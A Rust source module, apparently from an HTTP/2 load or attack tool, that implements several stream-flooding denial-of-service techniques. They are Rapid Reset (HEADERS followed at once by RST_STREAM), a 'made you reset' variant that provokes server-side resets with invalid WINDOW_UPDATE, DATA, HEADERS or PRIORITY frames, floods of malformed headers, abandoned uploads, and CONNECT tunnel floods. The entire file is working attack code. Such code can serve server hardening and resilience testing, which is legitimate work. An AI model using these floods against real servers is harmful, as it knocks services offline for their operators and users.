//! Streams begun and undone: by the client, by the server at the client's instigation, or never.

use super::{Talk, frame, hpack::Block};
use std::io;

/// The client takes its request back.
const CANCEL: u32 = 8;

pub async fn rapid_reset(talk: &mut Talk<'_>) -> io::Result<()> {
    talk.begin().await?;
    let block = talk.get().0;
    talk.flood(|talk| {
        let stream = talk.stream();
        let mut out = frame::headers(stream, &block, true);
        out.extend_from_slice(&frame::rst_stream(stream, CANCEL));
        out
    })
    .await
}

/// A valid request, then what the RFC has the server answer with `RST_STREAM`: the request is under way
/// upstream, and counts as open no more.
pub async fn made_you_reset(talk: &mut Talk<'_>) -> io::Result<()> {
    talk.begin().await?;
    let (get, post) = (talk.get().0, talk.post().0);
    let variant = talk.context.attack.variant();
    talk.flood(|talk| {
        let stream = talk.stream();
        let wrong = match variant {
            "window-zero" => frame::window_update(stream, 0),
            "window-overflow" => frame::window_update(stream, 0x7fff_ffff),
            "data-after-end" => frame::data(stream, b"more", false),
            "headers-after-end" => frame::headers(stream, &get, true),
            "priority-self" => frame::priority(stream, stream),
            _ => frame::frame(frame::PRIORITY, 0, stream, &[0, 0, 0]),
        };
        let open = matches!(variant, "window-zero" | "window-overflow");
        let mut out = if open {
            frame::headers(stream, &post, false)
        } else {
            frame::headers(stream, &get, true)
        };
        out.extend_from_slice(&wrong);
        out
    })
    .await
}

/// Messages that break a rule of RFC 9113, section 8: each is a stream error.
pub async fn malformed(talk: &mut Talk<'_>) -> io::Result<()> {
    talk.begin().await?;
    let good = talk.get();
    let blocks = [
        good.clone().literal(b"Upper-Case", b"x").0,
        good.clone().literal(b"connection", b"close").0,
        good.clone().literal(b"te", b"gzip").0,
        good.clone().literal(b"transfer-encoding", b"chunked").0,
        good.clone().literal(b":path", b"/late").0,
        good.clone().literal(b":unknown", b"x").0,
        good.clone().literal(b"x", b"line\r\nbreak").0,
        good.clone().literal(b"sp ace", b"x").0,
        Block::default().literal(b":method", b"GET").0,
        Block::default().0,
    ];
    let mut turn = blocks.iter().cycle();
    talk.flood(|talk| {
        let block = turn.next().map(Vec::as_slice).unwrap_or_default();
        frame::headers(talk.stream(), block, true)
    })
    .await
}

/// Uploads that are begun and left.
pub async fn many(talk: &mut Talk<'_>) -> io::Result<()> {
    talk.begin().await?;
    let block = talk.post().0;
    talk.flood(|talk| frame::headers(talk.stream(), &block, false))
        .await
}

pub async fn connect(talk: &mut Talk<'_>) -> io::Result<()> {
    talk.begin().await?;
    let name = talk.context.attack.name.clone();
    let tunnel = Block::default()
        .literal(b":method", b"CONNECT")
        .literal(b":authority", name.as_bytes());
    // RFC 8441, which the server must have offered first.
    let extended = tunnel
        .clone()
        .literal(b":protocol", b"websocket")
        .literal(b":scheme", b"https")
        .literal(b":path", b"/");
    let mut turn = [tunnel.0, extended.0].into_iter().cycle();
    talk.flood(|talk| frame::headers(talk.stream(), &turn.next().unwrap_or_default(), false))
        .await
}
